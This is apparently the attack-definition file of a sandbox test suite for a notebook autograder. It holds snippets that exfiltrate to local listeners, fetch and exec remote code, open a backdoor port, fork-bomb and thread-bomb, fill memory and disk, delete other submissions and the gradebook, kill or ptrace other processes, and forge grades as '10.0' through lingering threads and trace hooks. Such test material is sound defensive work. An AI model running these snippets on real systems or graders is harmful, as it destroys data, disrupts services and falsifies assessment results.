"""Attacks that harm: network, processes, memory, disk, floods, signals, and what outlives."""

from __future__ import annotations

from attack_form import LAZY, Attack

NETWORK = (
    Attack("tcp", "sends its loot to a listener by TCP",
           top="import socket\ns = socket.create_connection(('127.0.0.1', @TCP@), 2)\n"
           "s.sendall(b'@MARK@')"),
    Attack("udp", "sends datagrams to a listener, and asks a name server",
           top="import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
           "s.sendto(b'@MARK@', ('127.0.0.1', @UDP@))\nsocket.getaddrinfo('@MARK@.example', 80)"),
    Attack("unix-socket", "talks to a service of this machine by its socket",
           top="import socket\ns = socket.socket(socket.AF_UNIX)\ns.connect('@UNIX@')\n"
           "s.sendall(b'@MARK@')"),
    Attack("datagram", "sends datagrams to a service of this machine by its path",
           top="import socket\nfor kind in (socket.SOCK_DGRAM, socket.SOCK_RAW, 0x80002):\n"
           "    try: socket.socketpair(socket.AF_UNIX, kind)[0].sendto(b'@MARK@', '@UNIX@d')\n"
           "    except OSError as error: print(error)"),
    Attack("hands-on", "hands its channel on to a service of this machine",
           top="import array, socket\na, b = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)\n"
           "a.sendmsg([b'@MARK@'], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, "
           "array.array('i', [3]))], 0, '@UNIX@d')"),
    Attack("listener", "opens a door for whoever comes later",
           top="import socket, threading\ns = socket.socket()\ns.bind(('0.0.0.0', @PORT@))\n"
           "s.listen()\nthreading.Thread(target=s.accept).start()"),
    Attack("raw-sockets", "opens raw, netlink and vsock sockets by number",
           top="import ctypes\nlibc = ctypes.CDLL(None)\n"
           "print([(f, k, libc.socket(f, k, 0)) for f in (2, 10, 16, 17, 40) for k in (1, 3)])"),
    Attack("urlopen", "fetches a program and runs it",
           top="from urllib.request import urlopen\n"
           "exec(urlopen('http://127.0.0.1:@TCP@/@MARK@', timeout=2).read())"),
)  # fmt: skip

PROCESSES = (
    Attack("fork-bomb", "copies itself without end",
           top="import os\nwhile True:\n    try: os.fork()\n"
           "    except OSError as e: print(e); break"),
    Attack("double-fork", "leaves a process behind that writes a file later",
           top="import os, time\nif os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n"
           "        time.sleep(2)\n        open('/tmp/@MARK@later', 'w')\n    os._exit(0)"),
    Attack("subprocess", "starts programs by every function there is",
           top="import os, subprocess\nfor start in (lambda: subprocess.run(['sleep', '99']),\n"
           "    lambda: os.system('sleep 99 &'), lambda: os.popen('id').read(),\n"
           "    lambda: os.posix_spawn('/bin/true', ['true'], {})):\n"
           "    try: print(start())\n    except OSError as error: print(error)"),
    Attack("exec", "turns into another program that keeps the channel",
           answer=LAZY + "import os, sys\nos.execv(sys.executable, [sys.executable, '-c', "
           "'import time; time.sleep(9)'])"),
    Attack("multiprocessing", "starts a pool of processes",
           top="import multiprocessing as m\nwith m.Pool(4) as pool: print(pool.map(abs, [-1]))"),
    Attack("machine-code", "writes machine code into memory and calls the kernel itself",
           top="import ctypes, mmap\nm = mmap.mmap(-1, 4096, prot=7)\n"
           "m.write(b'\\xb8\\x39\\x00\\x00\\x00\\x0f\\x05\\xc3')  # fork by number\n"
           "at = ctypes.addressof(ctypes.c_char.from_buffer(m))\n"
           "print(ctypes.CFUNCTYPE(ctypes.c_long)(at)())"),
    Attack("threads-bomb", "starts a hundred thousand threads",
           top="import threading, time\nfor _ in range(10**5):\n"
           "    threading.Thread(target=time.sleep, args=(99,), daemon=True).start()"),
    Attack("shell-escape", "uses the notebook's own ways to a shell",
           top="!touch /tmp/@MARK@shell\n%sx touch /tmp/@MARK@sx",
           end="%%bash --bg\ntouch /tmp/@MARK@bash"),
)  # fmt: skip

MEMORY_AND_DISK = (
    Attack("memory", "asks for four gigabytes at once, and then bit by bit",
           top="try: x = bytearray(4 * 1024**3)\nexcept MemoryError: x = []\n"
           "while True: x.append(bytearray(10**7))"),
    Attack("memory-in-answer", "fills the memory when it is asked",
           answer=LAZY.replace("pass", "self.x = [np.ones(10**7) for _ in range(10**4)]", 1)),
    Attack("disk", "fills every folder that it may write to",
           top="import os, tempfile\nfor place in ('.', '/tmp', '/dev/shm', '/var/tmp', '@ROOT@',\n"
           "        os.path.expanduser('~'), '/run', '@ROOT@/submitted'):\n"
           "    try:\n        with open(place + '/@MARK@disk', 'wb') as f:\n"
           "            for _ in range(64): f.write(bytes(10**6))\n"
           "    except OSError as error: print(error)\ntempfile.mkdtemp()"),
    Attack("deletes", "deletes, renames and truncates what others handed in",
           top="import os, shutil, glob\n"
           "for name in glob.glob('@ROOT@/**', recursive=True) + ['@ROOT@/gradebook.db',\n"
           "        '@ROOT@/submitted']:\n"
           "    for act in (os.remove, shutil.rmtree, lambda n: os.rename(n, n + '2'),\n"
           "            lambda n: os.truncate(n, 0), lambda n: os.chmod(n, 0)):\n"
           "        try: act(name)\n        except OSError as error: print(error)"),
    Attack("descriptors", "opens files until there are none left",
           top="import os\nheld = []\nwhile True: held.append(os.dup(0))"),
    Attack("shared-memory", "makes shared memory, message queues and memory files",
           top="import ctypes, os\nlibc = ctypes.CDLL(None)\n"
           "print(libc.shmget(0, 4096, 0o1666), libc.msgget(0, 0o1666))\n"
           "print(libc.memfd_create(b'x', 0))\n"
           "from multiprocessing import shared_memory\n"
           "shared_memory.SharedMemory('@MARK@shared', create=True, size=4096)"),
)  # fmt: skip

FLOODS = (
    Attack("output", "prints without end, and swallows whatever would stop it",
           top="while True:\n    try:\n        while True: print('x' * 10**5)\n"
           "    except BaseException: pass"),
    Attack("huge-repr", "ends a cell with an object of a hundred megabytes of text",
           top="class R:\n    def __repr__(s): return 'x' * 10**8\nR()"),
    Attack("huge-images", "displays images and pages of many megabytes",
           top="from IPython.display import display\nfor _ in range(9):\n"
           "    display({'image/png': b'\\x89PNG' + bytes(3 * 10**6), 'text/html': 'y' * 10**7}, "
           "raw=True)"),
    Attack("million-lines", "prints a million lines of one character",
           top="print('\\n'.join('x' * 10**6))\nimport sys\nsys.stderr.write('\\n' * 10**6)"),
    Attack("recursion", "recurses until there is no stack left",
           top="import sys\nsys.setrecursionlimit(10**9)\ndef f(): return f()\nf()"),
    Attack("traceback", "raises an exception with a thousand causes and a huge text",
           top="e = ValueError('v' * 10**7)\nfor i in range(1000):\n"
           "    try: raise ValueError('w' * 1000) from e\n"
           "    except ValueError as x: e = x\nraise e"),
    Attack("lying-error", "raises an exception that prints, raises and waits when it is shown",
           top="class E(Exception):\n    def __str__(s):\n        while True: pass\n"
           "    __repr__ = __str__\n    __traceback__ = property(lambda s: 1 / 0)\nraise E()"),
    Attack("many-displays", "shows half a million small things",
           top="from IPython.display import display\n"
           "for i in range(500_000): display({'text/plain': ''}, raw=True)"),
    Attack("output-when-asked", "prints and displays without end while it is asked",
           answer=LAZY.replace("pass", "while True: print('x' * 10**6); display(1)", 1)),
    Attack("deep-display", "displays data that are nested a hundred times",
           top="from IPython.display import display\nx = []\nfor _ in range(100): x = [x]\n"
           "display({'application/json': x, 'text/plain': 'x'}, raw=True)"),
)  # fmt: skip

SIGNALS = (
    Attack("ignores-alarms", "ignores every signal that could stop it, and goes on",
           top="import signal\nfor n in signal.valid_signals():\n"
           "    try: signal.signal(n, signal.SIG_IGN)\n    except (OSError, ValueError): pass\n"
           "signal.setitimer(signal.ITIMER_PROF, 0)\nsignal.pthread_sigmask(signal.SIG_BLOCK, "
           "signal.valid_signals())\nwhile True: pass"),
    Attack("kills-parent", "ends the process that it was copied from, and the first of all",
           top="import os, signal\nfor pid in (os.getppid(), 1, 0, -1):\n"
           "    for number in (signal.SIGTERM, signal.SIGKILL, signal.SIGSTOP):\n"
           "        try: os.kill(pid, number)\n        except OSError as error: print(error)"),
    Attack("kills-everybody", "sends signals to every number and every group",
           top="import os, signal\nfor pid in range(2, 3000):\n"
           "    for send in (os.kill, os.killpg):\n"
           "        try: pid == os.getpid() or send(pid, signal.SIGKILL)\n"
           "        except OSError: pass"),
    Attack("ends-itself", "ends its own process in a cell and when it is asked",
           top="import os\nos._exit(0)",
           answer="import os, signal\n" + LAZY.replace("pass", "os.kill(os.getpid(), 9)", 1)),
    Attack("ptrace", "traces its neighbours and reads their memory",
           top="import ctypes, os\nlibc = ctypes.CDLL(None)\nb = ctypes.create_string_buffer(8)\n"
           "class V(ctypes.Structure):\n"
           "    _fields_ = [('p', ctypes.c_void_p), ('n', ctypes.c_size_t)]\n"
           "v = V(ctypes.addressof(b), 8)\nfor pid in (1, os.getppid(), *range(2, 30)):\n"
           "    print(libc.ptrace(16, pid, 0, 0), libc.process_vm_readv(pid, ctypes.byref(v), 1, "
           "ctypes.byref(v), 1, 0))"),
    Attack("segfault", "breaks its own memory, in a cell and in an answer",
           top="import ctypes\nctypes.memset(0, 1, 64)",
           answer="import ctypes\n" + LAZY.replace("pass", "ctypes.memset(0, 1, 64)", 1)),
    Attack("stops-itself", "stops its own process, so that whoever waits waits for ever",
           top="import os, signal\nos.kill(os.getpid(), signal.SIGSTOP)"),
    Attack("signal-by-file", "has the kernel signal others through a descriptor's owner",
           top="import fcntl, os\nr, w = os.pipe()\nfcntl.fcntl(r, 8, os.getppid())\n"
           "fcntl.fcntl(r, 10, 9)\nfcntl.fcntl(r, 4, 0o20000)\nos.write(w, b'x')"),
    Attack("waits", "sleeps until somebody loses patience", top="import time\ntime.sleep(10**6)"),
    Attack("waits-when-asked", "sleeps when it is asked",
           answer="import time\n" + LAZY.replace("pass", "time.sleep(10**6)", 1)),
    Attack("spins-in-c", "spins inside a function of C, where no signal is looked at",
           top="10 ** 10 ** 10"),
)  # fmt: skip

_WRITES = "open('/tmp/@MARK@late', 'w')"

OUTLIVING = (
    Attack("thread", "leaves a thread that mends the marks and prints later",
           top="import threading, time\ndef later():\n    while True:\n        time.sleep(0.01)\n"
           "        print('10.0')\n        globals().update(check=lambda *a: 10.0)\n"
           "threading.Thread(target=later).start()", answer=LAZY),
    Attack("shared-places", "leaves a number for others in what all processes inherit",
           top="import fcntl, os\nfor fd in range(3):\n"
           "    print(os.lseek(fd, 0, 1), fcntl.fcntl(fd, fcntl.F_GETFL))\n"
           "    os.lseek(fd, 12345, 0)\n    fcntl.fcntl(fd, fcntl.F_SETFL, os.O_APPEND)"),
    Attack("atexit", "registers what is to run at the end",
           top=f"import atexit\natexit.register(lambda: {_WRITES})"),
    Attack("del-method", "runs code when its objects are thrown away",
           answer=LAZY + f"    def __del__(self): {_WRITES}\nMomentum()"),
    Attack("finalize", "runs code when modules and classes of others are thrown away",
           top="import weakref, gc\nimport autograder.observe as o\n"
           f"weakref.finalize(o._Stage, lambda: {_WRITES})\ngc.callbacks.append(lambda *a: 1 / 0)"),
    Attack("event-loop", "leaves tasks in the event loop",
           top="import asyncio\nasync def later():\n    while True:\n"
           "        await asyncio.sleep(0)\n"
           "        print('10.0')\nt = asyncio.get_event_loop().create_task(later())\n"
           "await asyncio.sleep(0)", answer=LAZY),
    Attack("trace", "sets trace, profile and audit hooks that watch all that follows",
           top="import sys, threading\ndef watch(f, *a):\n"
           "    if f.f_code.co_name == '_read': f.f_locals['value'] = 10.0\n    return watch\n"
           "sys.settrace(watch); sys.setprofile(watch); threading.settrace(watch)\n"
           "sys.addaudithook(lambda *a: 1 / 0 if a[0] == 'object.__getattr__' else None)",
           answer=LAZY),
)  # fmt: skip
